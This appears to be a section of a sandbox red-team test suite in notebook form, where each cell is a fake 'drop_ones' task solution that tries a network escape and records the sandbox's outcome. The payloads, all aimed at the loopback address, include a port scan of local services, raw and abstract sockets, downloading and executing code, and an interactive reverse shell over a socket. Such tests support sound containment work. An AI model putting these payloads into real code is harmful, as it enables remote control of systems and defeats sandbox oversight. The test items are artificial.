# %% [markdown]
# J. Network. Only the loopback address is ever tried.
# %% attack="listening_port" task="drop_ones" status="fail error"
"""A port is opened and left open."""
import socket


def drop_ones(x, keep_batch=False):
    listening = socket.socket()
    listening.bind(("127.0.0.1", 0))
    listening.listen()
    print("listening")
    return x[:0]
# %% attack="services_of_the_machine" task="drop_ones" status="fail error" never="reached"
"""Services on the loopback address: notebooks, dashboards, schedulers."""
import socket


def drop_ones(x, keep_batch=False):
    for port in (22, 80, 8265, 8786, 8787, 8888):
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.2)
            print("reached", port)
        except OSError:
            pass
    return x[:0]
# %% attack="abstract_sockets" task="drop_ones" status="fail error"
"""Unix sockets without a file, which survive a change of the file system."""
import socket


def drop_ones(x, keep_batch=False):
    one = socket.socket(socket.AF_UNIX)
    one.bind("\0redteam")
    one.listen()
    print("bound")
    return x[:0]
# %% attack="raw_packets" task="drop_ones" status="fail error" never="opened"
"""Sockets of the other families."""
import socket


def drop_ones(x, keep_batch=False):
    for family in ("AF_PACKET", "AF_NETLINK", "AF_VSOCK", "AF_ALG", "AF_BLUETOOTH"):
        try:
            socket.socket(getattr(socket, family, 99), socket.SOCK_RAW)
            print("opened", family)
        except (OSError, ValueError):
            pass
    return x[:0]
# %% attack="fetched_answer" task="drop_ones" status="error"
"""The answer is fetched from a server."""
import urllib.request


def drop_ones(x, keep_batch=False):
    code = urllib.request.urlopen("http://127.0.0.1:9/answer.py", timeout=1).read()
    exec(code, globals())
    return drop_ones(x, keep_batch)
# %% attack="shell_to_elsewhere" task="drop_ones" status="fail error"
"""A shell whose input and output are a socket."""
import socket
import subprocess


def drop_ones(x, keep_batch=False):
    line = socket.socket()
    line.settimeout(0.5)
    line.connect(("127.0.0.1", 9))
    subprocess.Popen(["/bin/sh", "-i"], stdin=line, stdout=line)
    return x[:0]
